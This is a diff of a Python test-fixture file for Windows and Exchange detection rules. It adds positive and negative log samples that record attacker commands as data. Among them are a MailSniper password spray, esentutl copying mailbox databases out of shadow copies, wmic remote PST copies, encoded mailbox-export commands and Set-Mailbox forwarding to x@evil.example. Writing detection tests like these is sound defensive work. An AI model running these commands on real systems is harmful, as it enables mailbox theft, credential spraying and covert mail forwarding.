@@ -219,8 +219,10 @@ R = "win_exchange_management_export_role_or_cleanup"
 FIXTURES[R] = [
     pos(R, "role_granted_single_quotes", "The Mailbox Import Export role granted to a compromised account.",
         msx("New-ManagementRoleAssignment", "-Role \"Mailbox Import Export\" -User \"contoso.local/Users/svc-backup\"")),
-    pos(R, "export_request_removed", "Remove-MailboxExportRequest cleans up after the export.",
-        msx("Remove-MailboxExportRequest", "-Identity \"ceo\\MailboxExport\" -Confirm \"False\"")),
+    case("export_request_removed", "Remove-MailboxExportRequest cleans up after an export: routine on its own, a hunting signal "
+         "(win_exchange_management_export_request_removed), not the role grant.",
+         [msx("Remove-MailboxExportRequest", "-Identity \"ceo\\MailboxExport\" -Confirm \"False\"")],
+         match=["win_exchange_management_export_request_removed"], no_match=[R]),
     neg(R, "other_role_granted", "Another management role granted.",
         msx("New-ManagementRoleAssignment", "-Role \"Mail Recipients\" -SecurityGroup \"Helpdesk\"")),
     neg(R, "import_request_removed", "Completed import requests removed.",
@@ -381,4 +383,202 @@ FIXTURES[R] = [
          "finds them only when they share one of its windows (30 minutes long, one starting every 7.5 minutes), so this case "
          "is reported unverified there.",
          [COPY, dict(SMTP, at=1500)], match=[R]),
+]
+
+
+# --- Cases added for the procedure catalogue (docs/procedures.md) --------------------------
+# New rules go on at the end of FIXTURES; new cases of older rules go into VARIANTS, which
+# the generator numbers after everything else so the older files keep their record numbers.
+VARIANTS = {}
+
+ATOMIC_GET_INBOX = ("powershell -executionpolicy bypass -command \"C:\\AtomicRedTeam\\atomics\\T1114.001\\src\\Get-Inbox.ps1\" "
+                    "-file C:\\Users\\bob\\AppData\\Local\\Temp\\mail.csv")
+R = "win_mail_collection_script_run"
+FIXTURES[R] = [
+    pos(R, "atomic_t1114_001_get_inbox", "Atomic Red Team T1114.001 #1 as its executor runs it: PowerShell started by PowerShell "
+        "with the quoted path of Get-Inbox.ps1 and a CSV to write.", ps(ATOMIC_GET_INBOX, parent=PS)),
+    pos(R, "legacy_atomic_unquoted_lower_case", "The older T1114 test: unquoted path, script name in lower case, seen as Security 4688.",
+        proc(PS, "powershell -ExecutionPolicy Bypass -Command c:\\atomicredteam\\atomics\\T1114\\src\\get-inbox.ps1 -file %TEMP%\\mail.csv", via="security")),
+    pos(R, "renamed_pwsh_unc_mailsniper", "MailSniper.ps1 dot-sourced from a UNC share by PowerShell 7 renamed to svc.exe (Elastic: Defend).",
+        proc("C:\\ProgramData\\svc.exe", "svc.exe -nop -c \". '\\\\10.9.8.7\\tools$\\MailSniper.ps1'; Invoke-SelfSearch -Mailbox bob@contoso.com\"", "pwsh.dll", via="defend")),
+    pos(R, "relative_path_file_switch", "Get-Inbox.ps1 run by relative path with -File from the user's Downloads.",
+        ps("powershell.exe -ep bypass -File .\\Get-Inbox.ps1 -file out.csv")),
+    neg(R, "admin_inbox_rule_report_script", "An administrator's Get-InboxRule.ps1 report: the name only starts like Get-Inbox.",
+        ps("powershell.exe -File C:\\Scripts\\Get-InboxRule.ps1 -Mailbox bob", host=EXCH)),
+    neg(R, "inbox_statistics_script", "Get-InboxStatistics.ps1, a mailbox size report.",
+        ps("powershell.exe -NoProfile -File \\\\fs01\\scripts$\\Get-InboxStatistics.ps1")),
+    neg(R, "editor_opens_get_inbox", "Notepad opening Get-Inbox.ps1 (reviewing it) runs nothing.",
+        proc("C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\AtomicRedTeam\\atomics\\T1114.001\\src\\Get-Inbox.ps1", "NOTEPAD.EXE")),
+]
+
+R = "win_security_mail_store_share_access"
+OST_REL = "Users\\alice\\AppData\\Local\\Microsoft\\Outlook\\alice@contoso.com.ost"
+FIXTURES[R] = [
+    pos(R, "ost_over_c_dollar", "Another host reads alice's OST through \\\\FS01\\C$ (the Chimera procedure).",
+        {"kind": "share_access", "share": "\\\\*\\C$", "target": OST_REL}),
+    pos(R, "pst_over_d_dollar_upper_case", "An archive PST on D: read through D$, extension in upper case (forwarded Security event on Elastic).",
+        {"kind": "share_access", "share": "\\\\*\\D$", "target": "Archive\\Finance\\CFO-2025.PST", "local": "\\??\\D:\\", "dataset": "windows.forwarded"}),
+    pos(R, "nst_over_admin_share_lower_case", "A group-conversation NST read through c$ written in lower case.",
+        {"kind": "share_access", "share": "\\\\*\\c$", "target": "Users\\bob\\AppData\\Local\\Microsoft\\Outlook\\bob.nst"}),
+    neg(R, "own_pst_on_home_share", "A user's Outlook opens the PST kept on the home share: an ordinary share, the owner's file.",
+        {"kind": "share_access", "share": "\\\\*\\Home", "target": "bob\\Outlook\\archive.pst", "local": "\\??\\E:\\Home\\"}),
+    neg(R, "sccm_reads_admin_share", "Configuration Manager reading its client log through ADMIN$.",
+        {"kind": "share_access", "share": "\\\\*\\ADMIN$", "target": "CCM\\Logs\\ccmexec.log", "local": "\\??\\C:\\Windows\\", "user": "CONTOSO\\svc-sccm"}),
+    neg(R, "pst_named_log_over_c_dollar", "A migration tool's log whose name contains .pst but does not end in it.",
+        {"kind": "share_access", "share": "\\\\*\\C$", "target": "ProgramData\\Migrate\\alice.pst.log"}),
+]
+
+R = "win_security_ruler_workstation_logon"
+FIXTURES[R] = [
+    pos(R, "ruler_ntlm_logon_to_exchange", "Ruler authenticates to Exchange over NTLM: network logon with workstation RULER.",
+        {"kind": "logon", "workstation": "RULER", "host": EXCH}),
+    pos(R, "ruler_failed_spray_logon", "A failed logon from Ruler's brute-force mode (4625).",
+        {"kind": "logon", "workstation": "RULER", "failed": True, "user": "CONTOSO\\j.doe", "host": EXCH}),
+    neg(R, "ordinary_workstation_logon", "A user's workstation logs on to the Exchange server.",
+        {"kind": "logon", "workstation": "WS01", "ip": "10.1.2.3", "host": EXCH}),
+    neg(R, "workstation_name_contains_ruler", "A host whose name merely contains RULER.",
+        {"kind": "logon", "workstation": "RULER-LAB01", "ip": "10.1.7.9", "host": EXCH}),
+]
+
+R = "win_exchange_management_export_request_removed"
+FIXTURES[R] = [
+    pos(R, "completed_request_removed", "Remove-MailboxExportRequest run by the Exchange administrator.",
+        msx("Remove-MailboxExportRequest", "-Identity \"cfo\\MailboxExport1\" -Confirm:$false")),
+    neg(R, "export_request_listed", "Get-MailboxExportRequest lists the requests; nothing removed.",
+        msx("Get-MailboxExportRequest", "-Status \"Completed\"")),
+    neg(R, "import_request_removed_2", "A completed import request removed.",
+        msx("Remove-MailboxImportRequest", "-Identity \"j.doe\\MailboxImport1\"")),
+]
+
+R = "win_exchange_export_then_removed"
+EXPORT = msx("New-MailboxExportRequest", "-Mailbox \"ceo\" -FilePath \"\\\\EXCH01\\c$\\Windows\\Temp\\ceo.pst\"", caller="contoso.local/Users/svc-backup")
+REMOVE = msx("Remove-MailboxExportRequest", "-Identity \"ceo\\MailboxExport\" -Confirm \"False\"", caller="contoso.local/Users/svc-backup")
+BOTH = [R, "win_exchange_management_mailbox_export", "win_exchange_management_export_request_removed"]
+FIXTURES[R] = [
+    case("export_then_removed_20_minutes_later", "svc-backup exports the CEO mailbox and removes the request 20 minutes later.",
+         [EXPORT, dict(REMOVE, at=1200)], match=BOTH),
+    case("export_then_removed_by_another_admin", "One administrator exports and another removes the request through the same server: "
+         "still the sequence (the grouping is by server).", [EXPORT, dict(REMOVE, at=1200, caller="contoso.local/Users/exadmin")], match=BOTH),
+    case("export_and_removal_on_different_servers", "The export is logged on EXCH01, an unrelated removal on EXCH02.",
+         [EXPORT, dict(REMOVE, at=1200, host="EXCH02.contoso.local")], match=BOTH[1:], no_match=[R]),
+    case("removed_before_export", "A removal of an older request, then a new export: the wrong order.",
+         [REMOVE, dict(EXPORT, at=600)], match=BOTH[1:], no_match=[R]),
+    case("removed_next_day", "The request removed five hours later, outside the two-hour window.",
+         [EXPORT, dict(REMOVE, at=18000)], match=BOTH[1:], no_match=[R]),
+]
+
+VARIANTS["win_mail_store_copy_or_archive"] = [
+    pos("win_mail_store_copy_or_archive", "wmic_remote_cmd_copy_pst", "Chimera: wmic /node starts cmd /c copy of a user's PST on another host.",
+        proc("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic /node:10.1.2.40 process call create \"cmd /c copy c:\\Users\\alice\\Documents\\backup.pst c:\\windows\\temp\\backup.pst\"", "wmic.exe")),
+    pos("win_mail_store_copy_or_archive", "cmd_copy_from_admin_share_wildcard", "Chimera: cmd copies the OSTs of a remote profile through \\\\host\\c$ with a wildcard.",
+        proc(CMD, "cmd.exe /c copy \\\\WS02\\c$\\Users\\alice\\AppData\\Local\\Microsoft\\Outlook\\*.ost C:\\ProgramData\\o\\", "Cmd.Exe")),
+    pos("win_mail_store_copy_or_archive", "esentutl_from_shadow_copy", "esentutl copies an OST out of a volume shadow copy (device path).",
+        proc("C:\\Windows\\System32\\esentutl.exe", "esentutl.exe /y \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Users\\bob\\AppData\\Local\\Microsoft\\Outlook\\bob@contoso.com.ost /d C:\\Users\\Public\\b.ost", "esentutl.exe")),
+    pos("win_mail_store_copy_or_archive", "xcopy_short_8_3_path", "xcopy of a PST named by its 8.3 short path.",
+        proc("C:\\Windows\\System32\\xcopy.exe", "xcopy C:\\Users\\bob\\DOCUME~1\\OUTLOO~1\\archive.pst C:\\Users\\Public\\ /y", "XCOPY.EXE")),
+    neg("win_mail_store_copy_or_archive", "wmic_remote_dir_listing", "wmic /node starts a directory listing of PSTs: no copy.",
+        proc("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic /node:10.1.2.40 process call create \"cmd /c dir /s c:\\Users\\*.pst\"", "wmic.exe")),
+    neg("win_mail_store_copy_or_archive", "wmic_copy_of_logs", "wmic /node copies log files, no mail store.",
+        proc("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic /node:10.1.2.40 process call create \"cmd /c copy c:\\Windows\\Logs\\CBS\\CBS.log c:\\windows\\temp\\\"", "wmic.exe")),
+]
+
+R = "win_mail_hunting_tool_script"
+VARIANTS[R] = [
+    pos(R, "mailsniper_get_mailbox_folders", "MailSniper's Get-MailboxFolders lists another user's folders over EWS before a search.",
+        sb("Get-MailboxFolders -Mailbox ceo@contoso.com -ExchHostname mail.contoso.com -OutFile f.txt")),
+    pos(R, "mailsniper_owa_spray_backticks", "Invoke-PasswordSprayOWA with backticks, then Get-ADUsernameFromEWS on the hits.",
+        sb("Invoke-Password`SprayOWA -ExchHostname mail.contoso.com -UserList .\\u.txt -Password Winter2026 -Threads 15\nGet-ADUsernameFromEWS -EmailList .\\hits.txt")),
+    pos(R, "mailsniper_gmail_harvest", "Invoke-UsernameHarvestGmail and Invoke-DomainHarvestOWA, typed in lower case.",
+        sb("invoke-usernameharvestgmail -userfile .\\emails.txt; invoke-domainharvestowa -exchhostname mail.contoso.com")),
+    neg(R, "exchange_get_mailbox_folder_statistics", "Exchange's own Get-MailboxFolderStatistics: a name that only starts like MailSniper's Get-MailboxFolders.",
+        sb("Get-MailboxFolderStatistics -Identity bob -FolderScope Inbox | Select Name,ItemsInFolder", host=EXCH)),
+]
+R = "win_mail_hunting_tool_cmdline"
+VARIANTS[R] = [
+    pos(R, "mailsniper_ews_spray_one_liner", "Invoke-PasswordSprayEWS from a one-liner after dot-sourcing MailSniper.",
+        ps("powershell -ep bypass -c \". .\\MailSniper.ps1; Invoke-PasswordSprayEWS -ExchHostname mail.contoso.com -UserList u.txt -Password Winter2026\"")),
+    neg(R, "exchange_mailbox_folder_cmdlet", "Exchange's Get-MailboxFolder cmdlet in a one-liner.",
+        ps("powershell -c \"Get-MailboxFolder -Identity bob:\\Inbox -GetChildren\"", host=EXCH)),
+]
+
+R = "win_exchange_management_transport_agent_installed"
+FIXTURES[R] = [
+    pos(R, "lightneuron_style_agent_install", "A transport agent installed from a DLL in the Exchange bin folder under a Microsoft-like name (the LightNeuron procedure).",
+        msx("Install-TransportAgent", "-Name \"Transport Service Helper\" -TransportAgentFactory \"Microsoft.Exchange.Transport.Agent.ConnectionFiltering.ConnectionFilteringAgentFactory\" -AssemblyPath \"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\msextr.dll\"")),
+    pos(R, "agent_enabled_remotely", "The installed agent enabled from a remote management shell.",
+        msx("Enable-TransportAgent", "-Identity \"Transport Service Helper\"", client="Remote-ManagementShell-Unknown")),
+    neg(R, "agents_listed", "Administrator lists the transport agents.", msx("Get-TransportAgent", "")),
+    neg(R, "agent_disabled", "An agent disabled during troubleshooting.", msx("Disable-TransportAgent", "-Identity \"Contoso Disclaimer\"")),
+    neg(R, "failed_agent_install", "An install that failed (event 6): no agent reaches the mail path.",
+        msx("Install-TransportAgent", "-Name \"Helper\" -AssemblyPath \".\\helper.dll\" -TransportAgentFactory \"Helper.Factory\"", failed=True)),
+]
+
+R = "win_exchange_management_mailbox_access_granted"
+FIXTURES[R] = [
+    pos(R, "full_access_on_ceo_mailbox", "FullAccess on the CEO mailbox for a compromised account, AutoMapping off.",
+        msx("Add-MailboxPermission", "-Identity \"ceo\" -User \"contoso\\mallory\" -AccessRights \"FullAccess\" -InheritanceType \"All\" -AutoMapping \"False\"")),
+    pos(R, "receive_as_on_database", "Receive-As on a whole mailbox database: every mailbox in it becomes readable.",
+        msx("Add-ADPermission", "-Identity \"Mailbox Database 0412\" -User \"contoso\\svc-sync\" -ExtendedRights \"Receive-As\"")),
+    pos(R, "impersonation_role_for_mailsniper", "MailSniper's Invoke-GlobalMailSearch assigns ApplicationImpersonation to its account over remote PowerShell.",
+        msx("New-ManagementRoleAssignment", "-Role \"ApplicationImpersonation\" -User \"bob\"", client="Remote-ManagementShell-Unknown")),
+    pos(R, "send_on_behalf_granted_abbreviated", "Set-Mailbox grants Send-on-Behalf with a colon-bound value.",
+        msx("Set-Mailbox", "-Identity \"cfo\" -GrantSendOnBehalfTo:\"mallory\"")),
+    pos(R, "inbox_opened_to_default", "The Inbox opened to Default (every authenticated user) with Reviewer rights.",
+        msx("Add-MailboxFolderPermission", "-Identity \"ceo:\\Inbox\" -User \"Default\" -AccessRights \"Reviewer\"")),
+    pos(R, "activesync_device_allowed", "Set-CASMailbox allows an attacker-registered ActiveSync device to sync the mailbox.",
+        msx("Set-CASMailbox", "-Identity \"cfo\" -ActiveSyncAllowedDeviceIDs @{add=\"B5F2C8E1A7D34\"}")),
+    neg(R, "read_only_permission_query", "Get-MailboxPermission lists who has access.",
+        msx("Get-MailboxPermission", "-Identity \"ceo\"")),
+    neg(R, "calendar_shared_with_default", "Calendar shared with Default (free/busy): not the Inbox.",
+        msx("Set-MailboxFolderPermission", "-Identity \"bob:\\Calendar\" -User \"Default\" -AccessRights \"LimitedDetails\"")),
+    neg(R, "full_access_removed", "FullAccess removed after an assistant leaves.",
+        msx("Remove-MailboxPermission", "-Identity \"ceo\" -User \"contoso\\old-assistant\" -AccessRights \"FullAccess\" -Confirm \"False\"")),
+    neg(R, "send_on_behalf_cleared", "Set-Mailbox clearing Send-on-Behalf with $null.",
+        msx("Set-Mailbox", "-Identity \"cfo\" -GrantSendOnBehalfTo $null")),
+    neg(R, "activesync_disabled", "Set-CASMailbox turning ActiveSync off.",
+        msx("Set-CASMailbox", "-Identity \"leaver01\" -ActiveSyncEnabled \"False\"")),
+]
+
+EDB = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Mailbox\\Mailbox Database 0412\\Mailbox Database 0412.edb"
+VARIANTS["win_mail_store_copy_or_archive"] += [
+    pos("win_mail_store_copy_or_archive", "esentutl_copies_edb_from_shadow", "esentutl /y copies the mailbox database out of a shadow copy on the Exchange server.",
+        proc("C:\\Windows\\System32\\esentutl.exe", "esentutl.exe /y \"\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy2\\Program Files\\Microsoft\\Exchange Server\\V15\\Mailbox\\Mailbox Database 0412\\Mailbox Database 0412.edb\" /d C:\\Windows\\Temp\\m.edb", "esentutl.exe", host=EXCH)),
+    pos("win_mail_store_copy_or_archive", "cmd_copy_custom_named_edb", "cmd copies a database with a custom name from under ...\\Mailbox\\ (Security 4688).",
+        proc(CMD, "cmd.exe /c copy \"D:\\ExchangeDB\\Mailbox\\DB01\\DB01.edb\" \\\\10.9.8.7\\drop\\", via="security", host=EXCH)),
+    neg("win_mail_store_copy_or_archive", "eseutil_header_dump", "The administrator dumps the database header with eseutil /mh (a daily health check).",
+        proc("C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\eseutil.exe", "eseutil.exe /mh \"" + EDB + "\"", "eseutil.exe", host=EXCH)),
+    neg("win_mail_store_copy_or_archive", "esentutl_copies_search_index", "esentutl copies the Windows Search index (Windows.edb): an ESE database, not mail.",
+        proc("C:\\Windows\\System32\\esentutl.exe", "esentutl.exe /y C:\\ProgramData\\Microsoft\\Search\\Data\\Applications\\Windows\\Windows.edb /d C:\\Temp\\w.edb", "esentutl.exe")),
+]
+
+
+def encoded(text: str) -> str:
+    """PowerShell's -EncodedCommand form of a script: base64 of its UTF-16LE bytes."""
+    import base64
+
+    return base64.b64encode(text.encode("utf-16-le")).decode("ascii")
+
+
+R = "win_mail_collection_encoded_command"
+FIXTURES[R] = [
+    pos(R, "encoded_mailbox_export", "An encoded command exports the CEO mailbox to an admin share (only the base64 is in the process event).",
+        ps("powershell.exe -nop -w hidden -enc " + encoded("New-MailboxExportRequest -Mailbox ceo -FilePath \\\\EXCH01\\c$\\Windows\\Temp\\c.pst"), host=EXCH)),
+    pos(R, "encoded_outlook_inbox_lower_case", "An encoded one-liner in lower case reads the Inbox through Outlook COM (Security 4688).",
+        proc(PS, "powershell -e " + encoded("$o=new-object -comobject outlook.application;$o.getnamespace('mapi').getdefaultfolder(6).items|%{$_.body}"), via="security")),
+    pos(R, "encoded_forwarding_renamed_powershell", "Renamed PowerShell with an encoded Set-Mailbox -ForwardingSmtpAddress, text offset by one character (Elastic: Defend).",
+        proc("C:\\ProgramData\\upd.exe", "upd.exe -EncodedCommand " + encoded(" Set-Mailbox cfo -ForwardingSmtpAddress smtp:x@evil.example"), "PowerShell.EXE", via="defend")),
+    neg(R, "encoded_inventory_script", "A management agent's encoded inventory command: nothing of mail.",
+        ps("powershell.exe -NoProfile -EncodedCommand " + encoded("Get-CimInstance Win32_OperatingSystem | Select-Object Caption,Version"))),
+    neg(R, "encoded_mailbox_statistics", "An encoded Exchange report (Get-MailboxStatistics): read-only, no collection.",
+        ps("powershell.exe -enc " + encoded("Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Select DisplayName,TotalItemSize"), host=EXCH)),
+]
+
+R = "win_outlook_data_file_created_by_non_outlook"
+VARIANTS[R] = [
+    neg(R, "owner_copies_archive_in_explorer", "The user drags their archive PST to a USB stick in Explorer: the owner's own copy.",
+        {"kind": "file", "image": "C:\\Windows\\explorer.exe", "target": "E:\\Backup\\archive2025.pst"}),
+    neg(R, "onedrive_syncs_pst", "OneDrive downloads a PST the user keeps in their synced Documents folder.",
+        {"kind": "file", "image": "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe", "target": "C:\\Users\\bob\\OneDrive - Contoso\\Documents\\old-mail.pst", "via": "defend"}),
+    pos(R, "rclone_stages_ost_for_upload", "rclone writes a copy of the OST into its staging folder before the upload.",
+        {"kind": "file", "image": "C:\\Users\\Public\\rclone.exe", "target": "C:\\Users\\Public\\sync\\bob@contoso.com.ost"}),
 ]
